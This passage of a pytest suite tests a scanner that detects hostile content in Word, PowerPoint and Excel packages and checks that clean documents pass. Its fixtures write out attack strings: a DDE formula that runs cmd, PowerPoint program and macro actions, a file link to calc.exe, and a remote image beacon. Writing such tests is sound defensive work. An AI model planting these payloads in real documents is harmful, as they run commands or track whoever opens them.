    links = {DOC_RELS: lambda x: add_rel("rIdB", f"{R_NS}/hyperlink", "mailto:a@example.jp", True)(
        add_rel("rIdA", f"{R_NS}/hyperlink", "https://www.example.jp/?a=1&amp;b=2", True)(x))}
    assert problems_of(base["docx"], tmp_path, links) == []
    strict = {"_rels/.rels": lambda x: x.replace(f"{R_NS}/officeDocument",
                                                 "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument")}
    assert problems_of(base["docx"], tmp_path, strict, "strict") == []


@pytest.mark.parametrize(("fragment", "flagged"), [
    ('<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
     'r:link="rIdWeb"/></w:drawing></w:r></w:p>', True),
    ('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
     'xmlns:o="urn:schemas-microsoft-com:office:office" o:relid=" rIdWeb"/></v:shape></w:pict></w:r></w:p>', True),
    ('<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="rIdWeb"/></w:sectPr></w:pPr></w:p>', True),
    ('<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>リンク</w:t></w:r></w:hyperlink></w:p>', False),
])
def test_only_a_hyperlink_may_name_an_outside_relationship(base: dict[str, Path], tmp_path: Path, fragment: str,
                                                           flagged: bool) -> None:
    """A web link relationship is allowed; a picture (LibreOffice fetches an a:blip r:link naming
    it), VML image or header naming it loads from that address on opening."""
    found = problems_of(base["docx"], tmp_path, {
        DOC_RELS: add_rel("rIdWeb", f"{R_NS}/hyperlink", "http://beacon.example/p.png", True),
        "word/document.xml": in_body(fragment)})
    assert any("names the outside relationship" in p for p in found) == flagged, found


def test_unreadable_and_foreign_xml(base: dict[str, Path], tmp_path: Path) -> None:
    with zipfile.ZipFile(base["docx"]) as package:
        text = package.read("word/document.xml").decode("utf-8")
    shift_jis = re.sub(r"encoding=.UTF-8.", 'encoding="Shift_JIS"', text, count=1).encode("cp932")
    cases: list[tuple[dict[str, Edit], str]] = [
        ({"word/document.xml": lambda x: x.replace("?>", '?><!DOCTYPE x [<!ENTITY e "DDEAUTO">]>', 1)}, "dtd"),
        ({"word/document.xml": lambda x: x[:-20]}, "xml unreadable"),
        ({"word/document.xml": in_body('<h:script xmlns:h="http://www.w3.org/1999/xhtml">x</h:script>')}, "namespace"),
        ({"word/document.xml": in_body("<script>x</script>")}, "without namespace"),
        ({"word/document.xml": in_body('<w:p w:x="1" xmlns:e="urn:evil" e:y="2"/>')}, "namespace"),
        ({"word/document.xml": shift_jis}, "xml unreadable"),
        ({"_rels/.rels": lambda x: x.replace("officeDocument\"", "officeDocumentX\"")}, "main documents"),
        ({TYPES: lambda x: x.replace("wordprocessingml.document.main", "wordprocessingml.document.macroEnabled.main")},
         "main document of type"),
        ({TYPES: None}, "no [Content_Types].xml"),
    ]
    for index, (changes, expected) in enumerate(cases):
        found = problems_of(base["docx"], tmp_path, changes, f"u{index}")
        assert any(expected in p for p in found), (expected, found)
    (tmp_path / "not.docx").write_bytes(b"PK\x03\x04 truncated")
    assert check_ooxml(tmp_path / "not.docx")[0].startswith("ooxml_unreadable")


# --- PowerPoint ----------------------------------------------------------------------------------

def slide_link(attributes: str) -> Callable[[str], str]:
    def change(xml: str) -> str:
        assert "<a:r><a:t>本文" in xml
        link = f'<a:r><a:rPr lang="ja-JP"><a:hlinkClick {attributes}/></a:rPr><a:t>本文'
        return xml.replace("<a:r><a:t>本文", link, 1)
    return change


@pytest.mark.parametrize("attributes", ['r:id="" action="ppaction://program"', 'r:id="" action="ppaction://macro?name=M"',
                                        'r:id="" action="PPACTION://OLE?verb=0"', 'r:id="" action="ppaction://hlinkfile"',
                                        'r:id="rIdL" action="ppaction://hlinkpres?slideindex=1"'])
def test_powerpoint_actions(base: dict[str, Path], tmp_path: Path, attributes: str) -> None:
    found = problems_of(base["pptx"], tmp_path, {"ppt/slides/slide1.xml": slide_link(attributes)})
    assert any("action" in p for p in found), found


def test_powerpoint_links_objects_and_controls(base: dict[str, Path], tmp_path: Path) -> None:
    rels = "ppt/slides/_rels/slide1.xml.rels"
    jump = {"ppt/slides/slide1.xml": slide_link('r:id="" action="ppaction://hlinkshowjump?jump=nextslide"')}
    assert problems_of(base["pptx"], tmp_path, jump) == []
    program = {"ppt/slides/slide1.xml": slide_link('r:id="rIdL"'),
               rels: add_rel("rIdL", f"{R_NS}/hyperlink", "file:///c:/windows/system32/calc.exe", True)}
    assert any("external relationship" in p for p in problems_of(base["pptx"], tmp_path, program, "p"))
    for index, element in enumerate(('<p:control name="x" r:id="rId9"/>', '<p:oleObj name="x" r:id="rId9"/>')):
        change = {"ppt/slides/slide1.xml": lambda x, e=element: x.replace(
            "</p:spTree>", f'<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="9" name="o"/><p:cNvGraphicFramePr/>'
            f'<p:nvPr/></p:nvGraphicFramePr><p:xfrm/><a:graphic><a:graphicData uri="x"><p:controls {R}>{e}'
            "</p:controls></a:graphicData></a:graphic></p:graphicFrame></p:spTree>")}
        assert any("active element" in p for p in problems_of(base["pptx"], tmp_path, change, f"c{index}"))


# --- Real documents: no false positives ---------------------------------------------------------

def real_docx(path: Path) -> Path:
    document = docx.Document()
    document.core_properties.title = "報告書"
    document.add_heading("第1章 概要", 1)
    paragraph = document.add_paragraph("本文 ①㈱ 髙橋")
    document.add_picture(io.BytesIO(image("PNG")))
    document.add_picture(io.BytesIO(image("JPEG")))
    document.add_table(rows=2, cols=2).cell(0, 0).text = "表"
    document.sections[0].header.paragraphs[0].text = "ヘッダー"
    document.sections[0].footer.paragraphs[0].text = "フッター"
    document.add_comment(paragraph.runs[0], text="確認してください", author="山田")
    body = document.element.body
    for fragment in (complex_field(['TOC \\o "1-3" \\h \\z \\u'], "目次"), complex_field(["PAGE \\* MERGEFORMAT"], "1"),
                     complex_field([" NUM", "PAGES "], "1"), complex_field(['HYPERLINK \\l "_Toc1"'], "移動"),
                     '<w:p><w:fldSimple w:instr=" AUTHOR "><w:r><w:t>山田</w:t></w:r></w:fldSimple></w:p>'):
        body.append(parse_xml(fragment.replace("<w:p>", f"<w:p {W}>", 1)))
    rel = document.part.relate_to("https://www.example.jp/", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    body.append(parse_xml(f'<w:p {W} {R}><w:hyperlink r:id="{rel}"><w:r><w:t>リンク</w:t></w:r></w:hyperlink></w:p>'))
    document.save(str(path))
    return path


def real_pptx(path: Path) -> Path:
    presentation = pptx.Presentation()
    slide = presentation.slides.add_slide(presentation.slide_layouts[1])
    slide.shapes.title.text = "タイトル"
    run = slide.placeholders[1].text_frame.paragraphs[0].add_run()
    run.text = "リンク"
    run.hyperlink.address = "https://www.example.jp/"
    slide.shapes.add_picture(io.BytesIO(image("PNG")), Inches(1), Inches(1))
    slide.notes_slide.notes_text_frame.text = "ノート"
    second = presentation.slides.add_slide(presentation.slide_layouts[5])
    second.shapes.add_table(2, 2, Inches(1), Inches(1), Inches(4), Inches(2)).table.cell(0, 0).text = "表"
    data = CategoryChartData()
    data.categories = ["4月", "5月"]
    data.add_series("件数", (3, 5))
    second.shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, Inches(1), Inches(3), Inches(4), Inches(3), data)
    presentation.save(str(path))
    return path


def real_xlsx(path: Path) -> Path:
    book = xlsxwriter.Workbook(str(path))
    sheet, data = book.add_worksheet("予算"), book.add_worksheet("Data Sheet")
    for row in range(5):
        sheet.write_string(row, 0, f"項目{row}")
        sheet.write_number(row, 1, row + 1)
    sheet.write_formula("C1", "=SUM(B1:B5)", None, 15)
    sheet.write_formula("C2", "=IFERROR(VLOOKUP(A1,'Data Sheet'!A1:B5,2,FALSE),\"\")")
    sheet.write_formula("C3", '=HYPERLINK("https://www.example.jp/","サイト")')
    sheet.write_formula("C4", "=HYPERLINK(\"#'Data Sheet'!A1\",\"移動\")")
    sheet.write_dynamic_array_formula("D1", "=SORT(B1:B5)")
    sheet.write_formula("E1", "=XLOOKUP(1,B1:B5,A1:A5)")
    sheet.write_array_formula("F1:F5", "{=B1:B5*2}")
    book.define_name("税率", "=0.1")
    book.define_name("'Data Sheet'!local", "='Data Sheet'!$A$1")
    sheet.conditional_format("B1:B5", {"type": "formula", "criteria": "=$B1>2", "format": book.add_format()})
    sheet.conditional_format("B1:B5", {"type": "data_bar"})
    sheet.conditional_format("B1:B5", {"type": "3_color_scale"})
    sheet.data_validation("G1", {"validate": "list", "source": ["はい", "いいえ"]})
    sheet.data_validation("G2", {"validate": "list", "source": "=$A$1:$A$5"})
    sheet.write_comment("A1", "コメント")
    sheet.write_url("H1", "https://www.example.jp/")
    sheet.write_url("H2", "internal:'Data Sheet'!A1")
    sheet.write_url("H3", "mailto:info@example.jp")
    sheet.insert_image("J1", "p.png", {"image_data": io.BytesIO(image("PNG"))})
    chart = book.add_chart({"type": "column"})
    chart.add_series({"values": "=予算!$B$1:$B$5", "categories": "=予算!$A$1:$A$5"})
    sheet.insert_chart("J10", chart)
    data.add_table("A1:C4", {"columns": [{"header": "a"}, {"header": "b"},
                                         {"header": "合計", "formula": "=[@a]+[@b]", "total_function": "sum"}],
                             "total_row": True})
    data.add_sparkline("E1", {"range": "'Data Sheet'!A2:B2"})
    data.set_header("&L&G", {"image_left": "logo.png", "image_data_left": io.BytesIO(image("PNG"))})
    book.close()
    return path


@pytest.fixture(scope="module")
def real(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("real")
    return {"docx": real_docx(folder / "real.docx"), "xlsx": real_xlsx(folder / "real.xlsx"),
            "pptx": real_pptx(folder / "real.pptx")}


def test_real_documents_from_python_libraries_are_clean(real: dict[str, Path], tmp_path: Path) -> None:
    assert check_ooxml(real["docx"]) == []
    assert check_ooxml(real["xlsx"]) == []
    assert inspect_file(real["xlsx"], tmp_path).clean
    # python-pptx keeps its template's printer settings, a packaged binary: the only thing reported.
    found = check_ooxml(real["pptx"])
    assert found and all("printersettings" in p.lower() for p in found), found
    assert problems_of(real["pptx"], tmp_path, {"ppt/printerSettings/printerSettings1.bin": None, **{
        n: lambda x: re.sub(r'<Relationship [^>]*/printerSettings"[^>]*/>', "", x)
        for n in ("ppt/_rels/presentation.xml.rels",)}}, "stripped") == []


def test_a_charts_workbook_is_checked_one_level_down(real: dict[str, Path], tmp_path: Path) -> None:
    with zipfile.ZipFile(real["pptx"]) as package:
        [embedded] = [n for n in package.namelist() if n.startswith("ppt/embeddings/")]
        workbook = package.read(embedded)
    dde = edit(io.BytesIO(workbook), tmp_path / "inner.xlsx", {
        "xl/worksheets/sheet1.xml": lambda x: re.sub(r"<v>", "<f>cmd|' /C calc'!A0</f><v>", x, count=1)})
    found = problems_of(real["pptx"], tmp_path, {embedded: dde.read_bytes()}, "dde")
    assert f"{embedded}: dde formula in xl/worksheets/sheet1.xml" in found
    macro_type = {"[Content_Types].xml": lambda x: x.replace(
        "spreadsheetml.sheet\"", "spreadsheetml.sheet.macroEnabled\"")}
    assert any("'package'" in p for p in problems_of(real["pptx"], tmp_path, macro_type, "xlsm"))
    from_slide = {"ppt/slides/_rels/slide2.xml.rels": add_rel("rIdW", f"{R_NS}/package", f"../../{embedded}")}
    assert any("'package'" in p for p in problems_of(real["pptx"], tmp_path, from_slide, "slide"))


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is installed by scripts/setup.sh")
def test_documents_saved_by_libreoffice_are_clean(real: dict[str, Path], tmp_path: Path) -> None:
    profile = tmp_path / "profile"
    for kind, path in real.items():
        subprocess.run(["soffice", "--headless", f"-env:UserInstallation={profile.as_uri()}", "--convert-to", kind,
                        "--outdir", str(tmp_path / "lo"), str(path)], check=True, capture_output=True, timeout=180)
        saved = tmp_path / "lo" / path.name
        assert check_ooxml(saved) == [], kind
        assert inspect_file(saved, tmp_path).clean, kind


def test_an_element_its_namespace_does_not_define_is_flagged(tmp_path: Path) -> None:
    """Built by hand (no converter): a made-up element in WordprocessingML, in a Strict-named
    SpreadsheetML part and in a Word 2010 extension namespace; the schemas' own elements pass."""
    w14 = "http://schemas.microsoft.com/office/word/2010/wordml"
    known = ('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
             f'xmlns:w14="{w14}"><w:body><w:p w14:paraId="1A2B3C4D"><w:r><w:t>本文</w:t></w:r></w:p>'
             '</w:body></w:document>')
    problems: list[str] = []
    Part("word/document.xml", problems, {}, set()).read(known.encode(), False, False)
    assert problems == []
    for made_up, namespace in (("autoRun", "http://schemas.openxmlformats.org/wordprocessingml/2006/main"),
                               ("launch", "http://purl.oclc.org/ooxml/spreadsheetml/main"),
                               ("payload", w14)):
        problems = []
        part = f'<q:root xmlns:q="{namespace}"><q:{made_up}/></q:root>'
        Part("x.xml", problems, {}, set()).read(part.encode(), False, False)
        assert any(made_up in problem and "does not define" in problem for problem in problems), made_up


def test_a_package_with_an_undefined_element_is_not_clean(tmp_path: Path) -> None:
    path = tmp_path / "plain.docx"
    document = docx.Document()
    document.add_paragraph("本文")
    document.save(str(path))
    assert check_ooxml(path) == []
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"</w:body>", b"<w:autoRun/></w:body>")
    hostile = tmp_path / "hostile.docx"
    with zipfile.ZipFile(hostile, "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)
    assert any("autoRun" in problem for problem in check_ooxml(hostile))
